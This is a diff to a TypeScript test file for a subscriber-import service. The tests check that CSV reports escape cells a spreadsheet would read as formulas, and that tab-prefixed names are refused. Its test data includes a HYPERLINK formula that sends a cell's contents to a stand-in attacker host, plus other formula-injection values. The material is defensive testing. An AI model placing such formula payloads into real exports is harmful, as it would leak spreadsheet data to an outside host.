@@ -6,7 +6,8 @@
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { parse } from 'csv-parse/sync';
-import { fromCsv } from '../../services/adoption/report.ts';
+import { fromCsv, toCsv } from '../../services/adoption/report.ts';
+import type { ImportReport } from '../../services/adoption/types.ts';
 import { startHarness, type Harness } from '../http/support.ts';
 
 const test = suite('review11 (inputs): formulas in the import CSV report');
@@ -17,7 +18,9 @@ test.before(async () => {
 });
 test.after(async () => h.close());
 
-const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+4930123456', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+// A file record's names are the API's (no control characters: a 400), so the tab and CR cells reach
+// the report from NetBox or RADIUS text only; toCsv is checked with them directly below.
+const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+4930123456', '-2+3', '@SUM(A1)'];
 const records = hostile.map((v, i) => ({ subscriber_id: v, prefix: `2001:db8:0:${(i + 1) * 100}::/56`, username: v }));
 
 test('POST /import?format=csv: every cell a spreadsheet reads as a formula starts with a single quote', async () => {
@@ -34,6 +37,19 @@ test('POST /import?format=csv: every cell a spreadsheet reads as a formula start
 test('POST /import (JSON): the same values, unescaped', async () => {
   const res = await h.post('import', { sources: { file: { records } } });
   assert.equal(res.body.entries.map((e: any) => e.subscriber_id).sort(), [...hostile].sort());
+});
+
+test('toCsv: a name starting with tab or CR (NetBox or RADIUS text) starts with a single quote', () => {
+  const entry = (v: string) => ({ subscriber_id: v, prefix: '2001:db8::/56', username: v, cpe_id: null, state: 'suspended', conflicts: [] });
+  const report = { entries: ['\t=1+1', '\r=1+1'].map(entry) } as unknown as ImportReport;
+  const rows = parse(toCsv(report), { columns: true }) as Record<string, string>[];
+  assert.equal(rows.map((r) => [r.subscriber_id, r.username]), [["'\t=1+1", "'\t=1+1"], ["'\r=1+1", "'\r=1+1"]]);
+});
+
+test('a file record whose subscriber_id holds a tab is refused, naming the field', async () => {
+  const res = await h.post('import', { sources: { file: { records: [{ subscriber_id: '\t=1+1', prefix: '2001:db8:0:900::/56' }] } } });
+  assert.is(res.status, 400, res.text);
+  assert.is(res.body.error.field, 'sources.file.records.0.subscriber_id');
 });
 
 test('cells that only contain those characters later, and plain ones, are written as they are', async () => {
